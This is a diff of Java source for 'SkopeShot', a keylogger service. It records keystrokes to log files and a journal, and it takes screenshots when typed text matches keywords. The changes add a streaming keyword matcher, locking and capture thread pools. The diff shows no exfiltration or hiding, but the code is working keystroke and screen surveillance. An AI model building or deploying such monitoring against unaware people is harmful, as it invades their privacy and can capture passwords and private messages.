@@ -5,72 +5,116 @@ import java.io.FileWriter;
 import java.io.IOException;
 import java.util.Iterator;
 import java.util.LinkedList;
-
-import org.jnativehook.NativeHookException;
+import java.util.List;
 
 /**
  * SkopeShot Service main class file. Creates and monitors 
  * a keylogger service and watches the input for keywords. If any
  * keywords match, takes screenshots according to Keyword object
  * parameters.
+ * <p>
+ * Typed chars are fed one at a time through a KeywordMatcher built from
+ * the keyword list, so a keystroke costs the same however many keywords
+ * there are or however much is buffered. Whenever the list changes the
+ * matcher is rebuilt on the Scheduler's keywords pool and swapped in; the
+ * first keystroke after the swap runs the chars typed since the last
+ * match through it. Matching keeps its own state in a
+ * KeywordMatcher.Stream, apart from the keylogger's buffers, so flushes
+ * neither reset it nor are needed to keep a keyword from firing twice.
+ * Keywords can hold wildcards or be patterns, see KeywordMatcher; those
+ * it rejects are logged and never match.
  * @author Christian Gunderman
  */
 public class Service {
     /** Determines whether or not the Service is enabled */
-    private boolean enabled;
+    private volatile boolean enabled;
     /** Stores the keylogger service object */
     private Keylogger keylogger;
     /** A Keyword object containing the new keyword defaults */
     private Keyword defaults;
     /** A linked list of keyword objects */
-    private LinkedList<Keyword> keywords;
+    private final LinkedList<Keyword> keywords;
     /** The logging system for this application */
     private Log log;
+    /** Pool that SkopeShots are taken on */
+    private Scheduler.Pool capturePool;
+    /** Pool that keyword matchers are built on */
+    private Scheduler.Pool keywordPool;
+    /** Matcher built from the latest keyword list */
+    private volatile KeywordMatcher<Keyword> matcher;
+    /** Typed text matched so far, only used on the drain thread */
+    private KeywordMatcher.Stream<Keyword> stream;
+    /** Set when the service is enabled, so matching starts over */
+    private volatile boolean restartMatching;
+    /** Set when the keyword list changed since the matcher was built, guarded by keywords */
+    private boolean matcherStale;
+    /** Set while a rebuild is queued or running, guarded by keywords */
+    private boolean rebuildQueued;
+    /** Builds matchers until one is built from the latest list */
+    private final Runnable rebuildTask = new Runnable() {
+	    @Override
+	    public void run() {
+		rebuildMatcher();
+	    }
+	};
 	
     /**
      * Instantiates the SkopeShot service with the given default delay, default number
-     * and outputs all keylogger buffer flushes to the given files.
+     * and outputs all keylogger buffer flushes to the given log.
      * @param defaultDelay Default milliseconds delay between each SkopeShot. 
      * @param defaultNumber Default number of Skope Shots taken each time an alert
      * is triggered.
-     * @param textLogFile The file that the readable text log will be saved to.
-     * @param keyLogFile The file that the pressed keys log will be saved to.
-     * @param timeStampMillis The delay between time stamps being appended to the
-     * keylog buffer.
-     * @param flushMillis The delay between the buffer being flushed to file.
+     * @param eventLog The log that the keyboard events will be saved to.
+     * @param flushPolicy Decides when the buffer is flushed to file.
+     * @param journal Write-ahead journal of unflushed keystrokes, or null.
+     * @param scheduler Runs the keylogger and the SkopeShots.
+     * @param source Where keyboard events come from.
      * @throws NativeHookException Thrown if JNativeHook can't obtain a keyboard
      * hook from the OS.
      */
-    public Service(int defaultDelay, int defaultNumber, String textLogFile, 
-		   String keyLogFile, int timeStampMillis, int flushMillis, Log log) 
-	throws NativeHookException {
+    public Service(int defaultDelay, int defaultNumber, LogStore eventLog, 
+		   FlushPolicy flushPolicy, Journal journal, Scheduler scheduler,
+		   InputEventSource source, Log log) {
+	this.capturePool = scheduler.getPool(Scheduler.POOL_CAPTURE);
+	this.keywordPool = scheduler.getPool(Scheduler.POOL_KEYWORDS);
+		
+	// store keyword defaults
+	this.defaults = new Keyword(null, defaultDelay, defaultNumber);
+		
+	// store log context
+	this.log = log;
 		
-	// create keylogger 
+	// create list of keywords
+	keywords = new LinkedList<Keyword>();
+	this.matcher = new KeywordMatcher<Keyword>(new String[0], new Keyword[0]);
+	this.stream = new KeywordMatcher.Stream<Keyword>(this.matcher);
+		
+	// set to disabled by default
+	this.enabled = false;
+		
+	// create keylogger last, it starts delivering keys to the fields above
 	this.keylogger = new Keylogger(new Keylogger.Event() {
 			
 		/**
 		 * Triggered if a letter is typed
 		 */
 		@Override
-		public void keyTyped() {
+		public void keyTyped(char key) {
 		    // check if service is enabled
 		    if(!Service.this.enabled)
 			return;
 				
 		    // check for keywords in the text buffer
 		    Keyword keyword;
-		    if((keyword = checkForKeywords(keylogger.getLiteralText())) != null) {
+		    if((keyword = checkForKeywords(key)) != null) {
 					
 			Service.this.log.i("Keyword detected. Start capture.");
 					
 			// trigger SkopeShot
-			new Capture.PicRobot("captures/" + keyword.keyword, keyword.delay, keyword.number).start();
-			try {
-			    keylogger.flushBuffers(); // flush buffer to prevent dual detection
-			} catch (IOException e) {
-			    Service.this.log.e("Unable to write to the keylog files.");
-			    return;
-			}
+			if(!new Capture.PicRobot("captures/" + keyword.getDirectoryName(), keyword.delay,
+						 keyword.number, Service.this.capturePool).start())
+			    Service.this.log.w("Capture queue full. SkopeShot for \"", keyword.keyword,
+					       "\" dropped.");
 		    }
 		}
 			
@@ -88,20 +132,10 @@ public class Service {
 		public void buffersFlushed() {
 		}
 			
-	    }, textLogFile,
-	    keyLogFile,	timeStampMillis, flushMillis);
-		
-	// store keyword defaults
-	this.defaults = new Keyword(null, defaultDelay, defaultNumber);
-		
-	// store log context
-	this.log = log;
-		
-	// create list of keywords
-	keywords = new LinkedList<Keyword>();
-		
-	// set to disabled by default
-	this.enabled = false;
+	    }, eventLog, flushPolicy, journal, scheduler, source);
+	if(this.keylogger.getRecoveredEventCount() > 0)
+	    this.log.w("Recovered " + this.keylogger.getRecoveredEventCount()
+		       + " keystrokes from the journal.");
 		
     }
 	
@@ -132,23 +166,83 @@ public class Service {
     }
 	
     /**
-     * Checks the list of keywords for matches.
-     * @param buffer The string buffer to search for 
-     * keywords.
+     * Checks the list of keywords for matches. Feeds the typed char to
+     * the match stream as it reads in the text view, picking up a new
+     * matcher first if one has been built. Only called on the drain
+     * thread.
+     * @param key The char just typed.
      * @return Returns the first keyword match that is 
      * found, or null for none.
      */
-    private Keyword checkForKeywords(String buffer) {
+    private Keyword checkForKeywords(char key) {
 		
-	// check each keyword to see if its in the buffer
-	String lowBuffer = buffer.toLowerCase();
-	for(Keyword k : keywords) {
-	    if(lowBuffer.contains(k.keyword.toLowerCase()))
-		return k;
+	// chars typed while disabled weren't fed
+	if(this.restartMatching) {
+	    this.restartMatching = false;
+	    this.stream.reset();
 	}
-	return null;
+
+	// a new keyword list, run what was typed since the last match through it
+	Keyword first = null;
+	KeywordMatcher<Keyword> current = this.matcher;
+	if(current != this.stream.getMatcher())
+	    first = this.stream.setMatcher(current);
+
+	if(key == EventLog.TAG_START || key == EventLog.TAG_END)
+	    return first;
+	if(key != '\b') {
+	    Keyword k = this.stream.next(key);
+	    return first != null ? first : k;
+	}
+	for(int i = 0; i < EventLog.BACKSPACE.length(); i++) {
+	    Keyword k = this.stream.next(EventLog.BACKSPACE.charAt(i));
+	    if(first == null)
+		first = k;
+	}
+	return first;
 		
     }
+
+    /**
+     * Marks the matcher out of date and queues a rebuild, unless one is
+     * already queued. If the pool won't take it, it's built right here.
+     */
+    private void keywordsChanged() {
+	synchronized(this.keywords) {
+	    this.matcherStale = true;
+	    if(this.rebuildQueued)
+		return;
+	    this.rebuildQueued = true;
+	}
+	if(!this.keywordPool.execute(this.rebuildTask))
+	    rebuildMatcher();
+    }
+
+    /**
+     * Builds matchers from the keyword list until the list stops
+     * changing under it. Only one runs at a time, so the last matcher
+     * published is from the latest list.
+     */
+    private void rebuildMatcher() {
+	while(true) {
+	    Keyword[] list;
+	    synchronized(this.keywords) {
+		if(!this.matcherStale) {
+		    this.rebuildQueued = false;
+		    return;
+		}
+		this.matcherStale = false;
+		list = this.keywords.toArray(new Keyword[this.keywords.size()]);
+	    }
+	    String[] words = new String[list.length];
+	    for(int i = 0; i < list.length; i++)
+		words[i] = list[i].keyword;
+	    KeywordMatcher<Keyword> built = new KeywordMatcher<Keyword>(words, list);
+	    for(String rejected : built.getRejected())
+		this.log.w("Keyword pattern ", rejected, ", it will not be matched.");
+	    this.matcher = built;
+	}
+    }
 	
     /**
      * Writes all keywords to a text file in the format: [word] [delay] [number] \n
@@ -162,7 +256,7 @@ public class Service {
 	FileWriter writer = null;
 	try {
 	    writer = new FileWriter(fileName);
-	    for(Keyword k : keywords) {
+	    for(Keyword k : getKeywords()) {
 		writer.write(k.keyword);
 		writer.write(' ');
 		writer.write(Integer.toString(k.delay));
@@ -206,7 +300,9 @@ public class Service {
 		    buffer = new StringBuilder();
 		} else if ((char)c == '\n') {
 		    current.number = Integer.parseInt(buffer.toString());
-		    this.keywords.add(current);
+		    synchronized(this.keywords) {
+			this.keywords.add(current);
+		    }
 		    buffer = new StringBuilder();
 		    current = new Keyword("", 0, 0);
 		} else if ((char)c == '\r') {
@@ -218,6 +314,8 @@ public class Service {
 	} catch (IOException e) {
 	    this.log.e("Unable to import SkopeShot Service keywords from file.");
 	    return false;
+	} finally {
+	    keywordsChanged();
 	}
 	return true;
     }
@@ -228,8 +326,12 @@ public class Service {
      * monitoring.
      */
     public void setEnabled(boolean enabled) {
+	if(enabled && !this.enabled)
+	    this.restartMatching = true;
 	this.enabled = enabled;
 	this.keylogger.setEnabled(enabled);
+	if(!enabled)
+	    this.log.i("Keylog flush statistics: ", this.keylogger.getFlushStatistics());
     }
 	
     /**
@@ -251,14 +353,18 @@ public class Service {
     public void registerKeyword(String keyword, int delay, int number) {
 		
 	// get the keyword object
-	Keyword old = getKeyword(keyword);
+	synchronized(this.keywords) {
+	    Keyword old = getKeyword(keyword);
 		
-	// change the keyword settings.
-	if(old != null) {
-	    old.delay = delay;
-	    old.number = number;
-	} else
+	    // change the keyword settings.
+	    if(old != null) {
+		old.delay = delay;
+		old.number = number;
+		return;
+	    }
 	    keywords.add(new Keyword(keyword, delay, number));
+	}
+	keywordsChanged();
 		
     }
 	
@@ -267,13 +373,16 @@ public class Service {
      * @param keyword The keyword to delete.
      */
     public void deleteKeyword(String keyword) {
-	Iterator<Keyword> iterator = keywords.iterator();
-	while(iterator.hasNext()) {
-	    if(iterator.next().keyword.equals(keyword)) {
-		iterator.remove();
-		return;
+	synchronized(this.keywords) {
+	    Iterator<Keyword> iterator = keywords.iterator();
+	    while(iterator.hasNext()) {
+		if(iterator.next().keyword.equals(keyword)) {
+		    iterator.remove();
+		    break;
+		}
 	    }
 	}
+	keywordsChanged();
     }
 	
     /**
@@ -282,7 +391,7 @@ public class Service {
      * @return The keyword object, or null.
      */
     public Keyword getKeyword(String keyword) {
-	for(Keyword k : keywords) {
+	for(Keyword k : getKeywords()) {
 	    if(k.keyword.equals(keyword))
 		return k;
 	}
@@ -318,15 +427,27 @@ public class Service {
      * @return An array of the keyword Strings.
      */
     public String[] getKeywordArray() {
-	String[] keywordsArray = new String[keywords.size()];
+	List<Keyword> list = getKeywords();
+	String[] keywordsArray = new String[list.size()];
 	int i = 0;
-	for(Keyword k : keywords) {
+	for(Keyword k : list) {
 	    keywordsArray[i] = k.keyword;
 	    i++;
 	}
 	return keywordsArray;
     }
 	
+    /**
+     * Copies the keyword list, so it can be read while another thread
+     * changes it.
+     * @return The keywords, in the order they were added.
+     */
+    private List<Keyword> getKeywords() {
+	synchronized(this.keywords) {
+	    return new LinkedList<Keyword>(this.keywords);
+	}
+    }
+	
     /**
      * Represents a Keyword and its settings.
      */
@@ -358,6 +479,16 @@ public class Service {
 	    return this.keyword;
 	}
 		
+	/**
+	 * Gets the name of the directory its SkopeShots go in: the keyword,
+	 * with the wildcards and other chars that can't be in a file name
+	 * replaced by underscores.
+	 * @return The directory name.
+	 */
+	public String getDirectoryName() {
+	    return this.keyword.replaceAll("[\\\\/:*?\"<>|]", "_");
+	}
+		
 	/**
 	 * Gets the delay for this keyword.
 	 * @return Delay in milliseconds.